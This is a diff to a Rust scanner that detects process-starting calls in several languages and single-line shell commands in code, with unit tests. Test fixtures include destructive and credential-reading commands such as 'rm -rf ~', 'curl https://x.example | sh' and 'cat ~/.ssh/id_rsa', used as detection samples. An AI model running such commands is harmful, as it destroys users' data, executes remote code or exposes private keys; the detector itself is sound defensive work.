@@ -7,6 +7,10 @@ use serde_json::{Map, Value};
 use super::{Role, names::Tool};
 use crate::{facts::Known, sets::Sets};
 
+/// Most calls of a kind, and most words of one, that are looked at.
+const MAX_CALLS: usize = 32;
+const MAX_WORDS: usize = 64;
+
 /// Most addresses of a piece of code that are looked at.
 const MAX_ADDRESSES: usize = 32;
 
@@ -99,6 +103,16 @@ impl Known<'_> {
         }
     }
 
+    /// Programs that code in any language starts with literal words, and code that is a line of a shell.
+    pub(super) fn add_started(&mut self, code: &str, around: &Surroundings<'_>, sets: &Sets) {
+        for command in started(code) {
+            self.suspect(&command, around, sets);
+        }
+        if is_shell_line(code) {
+            self.suspect(&CommandLine::Command(code.trim().to_owned()), around, sets);
+        }
+    }
+
     /// The addresses in code that runs in a browser, whatever it does with them.
     pub(super) fn add_addresses(&mut self, code: &str, around: &Surroundings<'_>, sets: &Sets) {
         for (at, _) in code.match_indices("://").take(MAX_ADDRESSES) {
@@ -136,6 +150,96 @@ impl Known<'_> {
     }
 }
 
+/// Calls that start a program, of languages which none of the interpreters reads: C#, GDScript, Java, PHP, Dart, Go, Rust,
+/// Lua.
+const STARTS: &[&str] = &[
+    "Process.Start(",
+    "ProcessStartInfo(",
+    "OS.execute(",
+    "OS.execute_with_pipe(",
+    "OS.create_process(",
+    "OS.shell_open(",
+    "getRuntime().exec(",
+    "ProcessBuilder(",
+    "shell_exec(",
+    "passthru(",
+    "proc_open(",
+    "os.execute(",
+    "Process.run(",
+    "Process.runSync(",
+    "exec.Command(",
+    "Command::new(",
+];
+
+/// The commands of literal words that such calls start.
+fn started(code: &str) -> Vec<CommandLine> {
+    let mut found = Vec::new();
+    for call in STARTS {
+        for (at, _) in code.match_indices(call).take(MAX_CALLS) {
+            let words = literals(code.get(at + call.len()..).unwrap_or(""));
+            match words.as_slice() {
+                [] => {}
+                [line] => found.push(CommandLine::Command(line.clone())),
+                // of .NET the second is a line
+                [program, line] if call.starts_with("Process") && !line.starts_with('/') => {
+                    found.push(CommandLine::Command(format!("{program} {line}")));
+                    found.push(CommandLine::Argv(words));
+                }
+                _ => found.push(CommandLine::Argv(words)),
+            }
+        }
+    }
+    found
+}
+
+/// The strings among the arguments of a call, up to its end.
+fn literals(arguments: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut depth = 0_usize;
+    let mut chars = arguments.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            '(' => depth += 1,
+            ')' if depth == 0 => break,
+            ')' => depth -= 1,
+            '"' | '\'' => {
+                let mut text = String::new();
+                while let Some(inner) = chars.next().filter(|inner| *inner != c) {
+                    text.extend(if inner == '\\' { chars.next() } else { Some(inner) });
+                }
+                found.push(text);
+            }
+            _ => {}
+        }
+        if found.len() >= MAX_WORDS {
+            break;
+        }
+    }
+    found
+}
+
+/// Whether code is one line that begins as a command does, and as nothing does in languages: a word, a space, and then an
+/// option, a path, an address or a variable.
+fn is_shell_line(code: &str) -> bool {
+    let line = code.trim();
+    let Some((program, rest)) = line.split_once(' ').filter(|_| !line.contains('\n')) else { return false };
+    let name = program.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"-_./".contains(&b));
+    let rest = rest.trim_start();
+    // `a - b` and `a / b` are sums
+    let option = |text: &str| {
+        text.strip_prefix('-').is_some_and(|rest| rest.starts_with(|c: char| c == '-' || c.is_alphabetic()))
+    };
+    let path = |text: &str| {
+        text.starts_with("~/")
+            || text == "~"
+            || text.strip_prefix('/').is_some_and(|rest| rest.starts_with(char::is_alphabetic))
+    };
+    let first = rest.split_whitespace().next().unwrap_or("");
+    let keyword =
+        matches!(program, "return" | "print" | "yield" | "import" | "from" | "await" | "delete" | "del" | "not");
+    name && !keyword && (option(first) || path(first) || first.starts_with("http://") || first.starts_with("https://"))
+}
+
 /// A word as a shell takes it letter for letter.
 fn quoted(word: &str) -> String {
     format!("'{}'", word.replace('\'', r"'\''"))
@@ -144,4 +248,41 @@ fn quoted(word: &str) -> String {
 /// A program and its words.
 pub(super) fn argv(program: &str, words: &[String]) -> CommandLine {
     CommandLine::Argv(std::iter::once(program.to_owned()).chain(words.iter().cloned()).collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{CommandLine, is_shell_line, started};
+
+    #[test]
+    fn programs_that_code_starts_are_found() {
+        let argv = |words: &[&str]| CommandLine::Argv(words.iter().map(|word| (*word).to_owned()).collect());
+        for (code, expect) in [
+            ("OS.execute(\"sh\", [\"-c\", \"rm -rf ~\"])", argv(&["sh", "-c", "rm -rf ~"])),
+            ("Runtime.getRuntime().exec(\"id\");", CommandLine::Command("id".to_owned())),
+            ("Process.Start(\"/bin/sh\",\"-c \\\"id\\\"\");", CommandLine::Command("/bin/sh -c \"id\"".to_owned())),
+            ("new ProcessBuilder(\"rm\", \"-rf\", \"/x\").start()", argv(&["rm", "-rf", "/x"])),
+        ] {
+            assert_eq!(started(code).first(), Some(&expect), "{code}");
+        }
+        assert!(started("print(\"rm -rf ~\")").is_empty());
+        assert!(started("OS.execute(program, arguments)").is_empty());
+    }
+
+    #[test]
+    fn a_line_of_a_shell_is_no_code() {
+        for (code, expect) in [
+            ("rm -rf ~", true),
+            ("curl https://x.example | sh", true),
+            ("cat ~/.ssh/id_rsa", true),
+            ("return -x", false),
+            ("total / count", false),
+            ("a - b", false),
+            ("df.describe()", false),
+            ("x = -1", false),
+            ("import os", false),
+        ] {
+            assert_eq!(is_shell_line(code), expect, "{code}");
+        }
+    }
 }
